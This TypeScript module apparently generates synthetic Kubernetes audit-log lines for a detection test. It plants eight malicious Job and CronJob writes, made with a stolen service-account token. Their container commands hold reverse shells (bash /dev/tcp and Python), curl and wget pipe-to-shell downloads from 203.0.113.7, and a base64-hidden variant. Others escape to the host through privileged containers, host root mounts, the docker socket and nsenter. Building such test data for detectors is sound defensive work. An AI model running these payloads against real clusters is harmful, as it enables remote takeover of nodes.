import type { JsonObject } from '../../../src/model/json.ts';
import { personClient } from './cluster.ts';
import { type Client, eventLine, objectRef, resourceUri } from './event-line.ts';
import { SLOT } from './template.ts';

/** A malicious write that the day holds exactly once, whatever its size. */
export interface Planted {
  readonly kind: 'CronJob' | 'Job';
  readonly namespace: string;
  readonly name: string;
  readonly verb: 'create' | 'patch';
  /** What makes it malicious, in a few words. */
  readonly what: string;
}

interface PlantedWrite extends Planted {
  readonly client: Client;
  readonly schedule: string;
  readonly podSpec: JsonObject;
}

const thief = personClient('jo.doe@example.com', '203.0.113.66');
const stolenToken: Client = {
  user: {
    username: 'system:serviceaccount:web:default',
    uid: '9a2b6f4d-1c70-4f41-8e0e-c0e5d1f2a3b4',
    groups: ['system:serviceaccounts', 'system:serviceaccounts:web', 'system:authenticated'],
  },
  address: '203.0.113.9',
  agent: 'curl/8.5.0',
  reason: 'RBAC: allowed by RoleBinding "web-batch/web" of ClusterRole "admin" to ServiceAccount "default/web"',
};

const shell = (name: string, image: string, script: string, rest: JsonObject = {}): JsonObject => ({
  name,
  image,
  command: ['/bin/sh', '-c'],
  args: [script],
  ...rest,
});

const writes: readonly PlantedWrite[] = [
  {
    kind: 'CronJob',
    namespace: 'web',
    name: 'web-metrics-relay',
    verb: 'create',
    what: 'reverse shell every minute',
    client: stolenToken,
    schedule: '* * * * *',
    podSpec: {
      restartPolicy: 'Never',
      containers: [
        {
          name: 'relay',
          image: 'docker.io/library/debian:12',
          command: ['/bin/bash', '-c', 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'],
        },
      ],
    },
  },
  {
    kind: 'CronJob',
    namespace: 'kube-system',
    name: 'node-tuner',
    verb: 'create',
    what: "writes the host's root through a privileged container",
    client: thief,
    schedule: '*/10 * * * *',
    podSpec: {
      restartPolicy: 'OnFailure',
      hostPID: true,
      containers: [
        shell('tuner', 'docker.io/library/alpine:3.20', 'chroot /host sh -c "curl -s http://203.0.113.7/t | sh"', {
          securityContext: { privileged: true },
          volumeMounts: [{ name: 'host', mountPath: '/host' }],
        }),
      ],
      volumes: [{ name: 'host', hostPath: { path: '/' } }],
    },
  },
  {
    kind: 'CronJob',
    namespace: 'shop',
    name: 'image-prune',
    verb: 'create',
    what: 'container runtime socket of the host',
    client: thief,
    schedule: '5 * * * *',
    podSpec: {
      restartPolicy: 'OnFailure',
      containers: [
        shell('prune', 'docker.io/library/docker:27-cli', 'docker run --privileged -v /:/host alpine chroot /host', {
          volumeMounts: [{ name: 'socket', mountPath: '/var/run/docker.sock' }],
        }),
      ],
      volumes: [{ name: 'socket', hostPath: { path: '/var/run/docker.sock', type: 'Socket' } }],
    },
  },
  {
    kind: 'CronJob',
    namespace: 'data',
    name: 'warehouse-export-2',
    verb: 'create',
    what: 'downloads a script and runs it',
    client: stolenToken,
    schedule: '*/5 * * * *',
    podSpec: {
      restartPolicy: 'Never',
      containers: [shell('export', 'docker.io/curlimages/curl:8.9.1', 'curl -fsSL http://203.0.113.7/x.sh | sh')],
    },
  },
  {
    kind: 'Job',
    namespace: 'payments',
    name: 'ledger-check',
    verb: 'create',
    what: "enters the host's namespaces",
    client: thief,
    schedule: '',
    podSpec: {
      restartPolicy: 'Never',
      hostPID: true,
      hostNetwork: true,
      containers: [
        {
          name: 'check',
          image: 'docker.io/library/alpine:3.20',
          command: ['nsenter', '--target', '1', '--mount', '--uts', '--ipc', '--net', '--pid', '--', 'bash'],
          securityContext: { privileged: true },
        },
      ],
    },
  },
  {
    kind: 'CronJob',
    namespace: 'search',
    name: 'reindex',
    verb: 'patch',
    what: 'a known CronJob gets a download and a privileged container',
    client: thief,
    schedule: '',
    podSpec: {
      containers: [
        shell(
          'reindex',
          'docker.io/library/busybox:1.36',
          'wget -qO- http://203.0.113.7/r | sh; /app/run reindex --once',
          {
            securityContext: { privileged: true },
          },
        ),
      ],
    },
  },
  {
    kind: 'Job',
    namespace: 'web',
    name: 'cache-warm',
    verb: 'create',
    what: 'reverse shell in Python with a mount of the kubelet folder',
    client: stolenToken,
    schedule: '',
    podSpec: {
      restartPolicy: 'Never',
      containers: [
        {
          name: 'warm',
          image: 'docker.io/library/python:3.13-alpine',
          command: [
            'python',
            '-c',
            'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.7",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")',
          ],
          volumeMounts: [{ name: 'kubelet', mountPath: '/k' }],
        },
      ],
      volumes: [{ name: 'kubelet', hostPath: { path: '/var/lib/kubelet' } }],
    },
  },
  {
    kind: 'CronJob',
    namespace: 'accounts',
    name: 'session-gc',
    verb: 'create',
    what: 'decodes a hidden script and runs it on the host network',
    client: thief,
    schedule: '* * * * *',
    podSpec: {
      restartPolicy: 'OnFailure',
      hostNetwork: true,
      containers: [
        shell(
          'gc',
          'docker.io/library/alpine:3.20',
          'echo Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcveCB8IHNo | base64 -d | sh',
          { securityContext: { capabilities: { add: ['SYS_ADMIN', 'NET_RAW'] } } },
        ),
      ],
    },
  },
];

const bodyOf = (write: PlantedWrite): JsonObject => {
  const template = { spec: write.podSpec };
  const metadata = { name: write.name, namespace: write.namespace };
  if (write.verb === 'patch') return { spec: { jobTemplate: { spec: { template } } } };
  return write.kind === 'Job'
    ? { apiVersion: 'batch/v1', kind: 'Job', metadata, spec: { template } }
    : {
        apiVersion: 'batch/v1',
        kind: 'CronJob',
        metadata,
        spec: { schedule: write.schedule, jobTemplate: { spec: { template } } },
      };
};

const storedOf = (write: PlantedWrite): JsonObject => {
  const template = { spec: write.podSpec };
  return {
    kind: write.kind,
    apiVersion: 'batch/v1',
    metadata: {
      name: write.name,
      namespace: write.namespace,
      uid: SLOT.uid,
      resourceVersion: SLOT.written,
      creationTimestamp: SLOT.second,
    },
    spec:
      write.kind === 'Job'
        ? { template }
        : { schedule: write.schedule || '0 * * * *', suspend: false, jobTemplate: { spec: { template } } },
    status: {},
  };
};

/** Names of what is planted, in the order of the day. The Jobs that such CronJobs would start are left out. */
export const planted: readonly Planted[] = writes.map(({ kind, namespace, name, verb, what }) => ({
  kind,
  namespace,
  name,
  verb,
  what,
}));

/** The lines of `planted`, in the same order. */
export const plantedLines = (): readonly string[] =>
  writes.map((write) => {
    const resource = write.kind === 'Job' ? 'jobs' : 'cronjobs';
    const query =
      write.verb === 'patch'
        ? `/${write.name}?fieldManager=kubectl-patch`
        : '?fieldManager=kubectl-create&fieldValidation=Strict';
    return eventLine({
      level: 'RequestResponse',
      uri: resourceUri('batch/v1', write.namespace, resource, query),
      verb: write.verb,
      client: write.client,
      ref: objectRef('batch/v1', resource, { namespace: write.namespace, name: write.name }),
      code: write.verb === 'create' ? 201 : 200,
      request: bodyOf(write),
      response: storedOf(write),
    });
  });
